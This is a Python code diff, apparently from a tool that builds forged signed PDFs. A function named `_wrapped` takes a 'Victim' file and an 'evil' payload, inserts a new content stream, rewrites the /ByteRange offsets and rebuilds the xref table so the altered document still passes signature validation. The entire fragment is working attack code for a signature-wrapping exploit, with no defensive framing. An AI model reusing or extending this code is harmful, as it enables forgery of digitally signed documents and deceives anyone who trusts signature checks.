@@ -36,7 +36,11 @@ def _wrapped(v: Victim, *, is_copied: bool, evil: bytes) -> bytes:
     slot = 4_000
 
     def build(moved: int) -> tuple[bytes, int]:
-        body = gap + b">>\nendobj\n"
+        tail = data[finish : data.index(b"endobj", finish)] + b"endobj\n"
+        if is_copied:
+            body = gap + b">>\nendobj\n"
+        else:
+            body = gap + tail.replace(old.group(), b"/ByteRange [0 %d %d %d] " % (begin, moved, len(rest)))
         body += b"%".ljust(table_at - begin - len(body) - 1, b" ") + b"\n"
         new_at = begin + len(body) + slot
         copy = data[place : data.index(b"endobj", finish)] + b"endobj\n"
@@ -44,7 +48,7 @@ def _wrapped(v: Victim, *, is_copied: bool, evil: bytes) -> bytes:
         new = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (content, len(evil), evil)
         mine = {number: at + (moved - finish if at >= finish else 0) for number, at in entries.items()}
         mine |= {content: new_at, signature: new_at + len(new) if is_copied else place}
-        new += copy
+        new += copy if is_copied else b""
         table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % one for one in sorted(mine.items()))
         body += (table + trailer).ljust(slot, b" ") + new
         return data[:begin] + body + rest, begin + len(body)
